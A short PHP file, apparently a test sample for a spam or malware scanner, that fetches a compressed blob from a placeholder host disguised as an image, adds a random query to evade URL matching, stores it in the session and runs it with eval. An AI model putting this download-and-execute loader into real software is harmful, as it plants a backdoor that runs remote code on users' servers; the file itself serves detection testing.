<?php
// spamgear test sample: code fetched from a URL with a query added at run
// time (so the URL is no constant), kept in the session, then run.
session_start();
if (empty($_SESSION['blob'])) {
    $_SESSION['blob'] = file_get_contents(sprintf('%s?%s', 'http://updates.example.invalid/a.jpg', uniqid()));
}
eval(gzuncompress($_SESSION['blob']));
